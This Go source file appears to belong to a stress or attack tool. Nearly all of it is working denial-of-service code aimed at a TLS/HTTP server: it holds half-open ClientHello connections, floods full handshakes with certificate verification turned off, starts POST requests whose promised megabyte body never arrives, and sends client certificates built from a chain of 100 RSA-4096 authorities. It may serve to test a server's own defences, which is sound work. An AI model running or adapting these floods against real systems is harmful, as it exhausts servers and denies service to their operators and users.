package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"net/url"
	"sync"
	"time"
)

// address is the host and port of the server.
func (t target) address() string {
	u, err := url.Parse(t.Base)
	if err != nil {
		return ""
	}
	return u.Host
}

// dial opens a connection without TLS.
func (a *army) dial(ctx context.Context) net.Conn {
	c, err := attackersAddress().DialContext(ctx, "tcp", a.address())
	if err != nil {
		if ctx.Err() == nil {
			a.count(said(err))
		}
		return nil
	}
	return c
}

// hold keeps a connection until the server or the context ends it.
func (a *army) hold(ctx context.Context, c net.Conn) {
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	if _, err := c.Read(make([]byte, 1)); ctx.Err() == nil && err != nil {
		a.count("closed by the server")
	}
}

// each has so many goroutines for each client run f over and over.
func (a *army) each(times int, f func(context.Context)) func(context.Context) {
	return func(ctx context.Context) {
		var all sync.WaitGroup
		for range a.clients * times {
			all.Go(func() {
				for ctx.Err() == nil {
					f(ctx)
				}
			})
		}
		all.Wait()
	}
}

// slowHandshakes keep connections that began a handshake.
func slowHandshakes(a *army) (func(context.Context), error) {
	return a.each(50, func(ctx context.Context) {
		c := a.dial(ctx)
		if c == nil {
			return
		}
		if _, err := c.Write([]byte{22, 3, 1}); err == nil { // of a ClientHello
			a.count("begun")
		}
		a.hold(ctx, c)
	}), nil
}

// connections make handshakes, and drop the connection.
func connections(a *army) (func(context.Context), error) {
	return a.each(1, func(ctx context.Context) {
		c := a.dial(ctx)
		if c == nil {
			return
		}
		defer c.Close()
		over := tls.Client(c, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // it attacks whoever is there
		if err := over.HandshakeContext(ctx); err != nil {
			if ctx.Err() == nil {
				a.count(said(err))
			}
			return
		}
		a.count("handshakes")
	}), nil
}

// slowBodies begin requests whose bodies do not come.
func slowBodies(a *army) (func(context.Context), error) {
	return a.each(20, func(ctx context.Context) {
		c := a.dial(ctx)
		if c == nil {
			return
		}
		over := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}) //nolint:gosec // as above
		_, err := fmt.Fprintf(over, "POST %s HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer token-of-%s\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{",
			configMaps, attacker)
		if err != nil {
			_ = c.Close()
			return
		}
		a.count("begun")
		a.hold(ctx, over)
	}), nil
}

// longChains send small requests with a certificate of 100 intermediates.
func longChains(a *army) (func(context.Context), error) {
	certificate, err := chain()
	return a.each(1, func(ctx context.Context) {
		client := a.client(false, certificate)
		defer client.CloseIdleConnections()
		for n := 0; n < 100 && ctx.Err() == nil; n++ {
			a.fire(ctx, client, shot{method: "GET", path: "/api", token: "-"})
		}
	}), err
}

// chain makes a client certificate that a chain of 100 authorities with RSA keys
// signed. Go makes no connection with keys of more than 8,192 bits.
func chain() (*tls.Certificate, error) {
	const bits, length = 4096, 100
	authority, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		return nil, err
	}
	own, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	template := func(n int, ca bool) *x509.Certificate {
		return &x509.Certificate{
			SerialNumber: big.NewInt(int64(n + 1)), Subject: pkix.Name{CommonName: fmt.Sprint("authority ", n)},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
			BasicConstraintsValid: true, IsCA: ca, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
			ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
		}
	}
	var signed [][]byte
	for n := range length {
		der, err := x509.CreateCertificate(rand.Reader, template(n, true), template(n+1, true), &authority.PublicKey, authority)
		if err != nil {
			return nil, err
		}
		signed = append(signed, der)
	}
	leaf, err := x509.CreateCertificate(rand.Reader, template(-1, false), template(0, true), &own.PublicKey, authority)
	if err != nil {
		return nil, err
	}
	return &tls.Certificate{Certificate: append([][]byte{leaf}, signed...), PrivateKey: own}, nil
}
